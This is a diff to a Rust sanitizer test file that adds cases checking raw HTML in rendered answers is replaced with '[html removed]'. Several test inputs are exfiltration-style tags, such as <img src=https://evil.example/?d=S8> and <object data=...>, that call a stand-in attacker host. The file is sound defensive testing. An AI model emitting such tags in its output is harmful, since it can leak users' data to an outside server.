@@ -275,11 +275,21 @@ fn raw_html() {
             "a <img src=x.png/ src=https://evil.example/SECRET> b",
             "a [html removed] b",
         ),
-        // Not HTML to CommonMark (no space before the attribute): renderers escape it.
+        // Not HTML to CommonMark, but a tag to a browser if the answer is ever inserted as HTML.
         (
-            "text, not a tag",
+            "text to CommonMark, a tag to a browser",
             "<img/src=https://evil.example/q>",
-            "<img/src=https://evil.example/q>",
+            "[html removed]",
+        ),
+        (
+            "unquoted value with = and ?",
+            "see <img src=https://evil.example/?d=S8> here",
+            "see [html removed] here",
+        ),
+        (
+            "object with data",
+            "<object data=https://evil.example/?d=1>",
+            "[html removed]",
         ),
         (
             "srcset",
